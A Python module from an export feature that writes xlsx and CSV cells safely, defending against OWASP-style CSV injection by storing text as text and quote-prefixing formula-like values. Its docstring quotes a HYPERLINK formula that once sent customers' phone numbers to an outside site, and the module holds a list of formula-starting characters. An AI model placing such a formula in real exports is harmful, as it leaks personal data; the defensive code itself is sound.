"""The one place a value is written into an exported spreadsheet cell (xlsx or CSV).

Why (issue 23, item 6): "Every xlsx and CSV the app writes goes through one writer that
writes a text cell beginning with ``=``, ``+``, ``-``, ``@``, tab or carriage return as
text (OWASP's CSV-injection rule), so a spreadsheet shows it and never runs it." A customer
named ``=HYPERLINK("http://…?d="&E2,"点我")`` was written to the 客户分级 export as a live
formula that sent the phone number beside it to an outside site when clicked.

- xlsx (:func:`put_cell`): every ``str`` is stored as a string cell (``data_type = "s"``),
  never as a formula, whatever it starts with; a formula-like text also gets Excel's
  "quote prefix" style, so editing the cell in Excel keeps it text. The user sees the exact
  text. Numbers stay numbers (``-2`` the number is a number, ``"-2"`` the text is text).
- CSV (:func:`csv_text`, :func:`write_csv`): a formula-like text field is prefixed with a
  single quote, as OWASP recommends (a CSV cell has no type, so the prefix is the only way);
  every field is quoted.

Qt-free and ReportLab-free: the GUI and the command line both write through it.
Nothing else in ``src`` may put a value into a cell or create a CSV writer
(``tests/reports/test_safe_cells.py`` walks the sources and every export).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from typing import IO, Any

from openpyxl.cell.cell import Cell as OpenpyxlCell
from openpyxl.worksheet.worksheet import Worksheet

#: A text starting with one of these is run (or half-run) by Excel, LibreOffice or Sheets
#: when typed or opened from CSV (OWASP "CSV Injection").
FORMULA_LEADS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")


def formula_like(text: str) -> bool:
    """True when a spreadsheet would read ``text`` as a formula (or the start of one)."""
    return text.startswith(FORMULA_LEADS)


def put_cell(sheet: Worksheet, row: int, column: int, value: object) -> OpenpyxlCell:
    """Write ``value`` at (``row``, ``column``): text as text (never a formula), numbers as numbers.

    openpyxl turns any string starting with ``=`` into a formula cell; setting the data type
    back to string stores it as an inline string, which Excel shows and never evaluates.
    """
    cell = sheet.cell(row=row, column=column)
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"
        if formula_like(value):
            cell.quotePrefix = True
    return cell


def csv_text(value: object) -> str:
    """One CSV field: ``None`` empty, a formula-like text prefixed with ``'`` (OWASP)."""
    if value is None:
        return ""
    if isinstance(value, str):
        return "'" + value if formula_like(value) else value
    return str(value)


def write_csv(stream: IO[str], header: Sequence[str], rows: Iterable[Sequence[Any]]) -> None:
    """Write a header and rows as CSV with every field quoted and made safe by :func:`csv_text`.

    ``stream`` must be opened with ``newline=""`` (the csv module writes its own line ends).
    """
    writer = csv.writer(stream, quoting=csv.QUOTE_ALL)
    writer.writerow([csv_text(h) for h in header])
    for row in rows:
        writer.writerow([csv_text(v) for v in row])


__all__ = ["FORMULA_LEADS", "csv_text", "formula_like", "put_cell", "write_csv"]
